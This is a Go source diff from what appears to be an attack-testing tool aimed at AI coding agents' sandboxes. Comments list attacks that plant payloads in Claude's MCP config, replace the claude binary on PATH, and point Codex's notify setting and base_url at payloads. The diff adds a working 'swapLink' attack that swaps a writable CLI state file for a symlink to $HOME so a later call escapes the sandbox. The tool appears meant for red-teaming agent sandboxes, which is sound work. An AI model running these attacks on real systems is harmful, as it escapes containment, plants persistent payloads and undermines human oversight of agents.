@@ -96,6 +96,9 @@ import (
 //   - claude-mcp (6): add an MCP server running a payload to ~/.claude.json
 //   - claude-self (6, 7): replace the claude program found on PATH (when
 //     it is writable) by a payload that then runs the original
+//   - swap-link: replace [link] (a path its sandbox lets it write, that
+//     jlgcli gives the next call: a CLI's state file) by a symbolic link
+//     to [link-to] (default $HOME)
 //   - codex-notify (6): set notify in Codex's config.toml ($CODEX_HOME, else
 //     ~/.codex) to a payload
 //   - codex-baseurl (6): add a model provider whose base_url is
@@ -249,6 +252,8 @@ func runAttacks(w io.Writer, attacks []string, p params) {
 			what, err = claudeMCP(p)
 		case "claude-self":
 			what, err = claudeSelf(p)
+		case "swap-link":
+			what, err = swapLink(p)
 		case "codex-notify":
 			what, err = codexNotify(p)
 		case "codex-baseurl":
@@ -837,6 +842,24 @@ func claudeSelf(p params) (string, error) {
 		return "", err
 	}
 	return "replaced " + path, nil
+}
+
+func swapLink(p params) (string, error) {
+	link, err := p.need("link")
+	if err != nil {
+		return "", err
+	}
+	if err := mayWrite(link); err != nil {
+		return "", err
+	}
+	to := p.get("link-to", os.Getenv("HOME"))
+	if err := os.Remove(link); err != nil && !errors.Is(err, fs.ErrNotExist) {
+		return "", err
+	}
+	if err := os.Symlink(to, link); err != nil {
+		return "", err
+	}
+	return link + " now leads to " + to, nil
 }
 
 // codexDir is Codex's home.
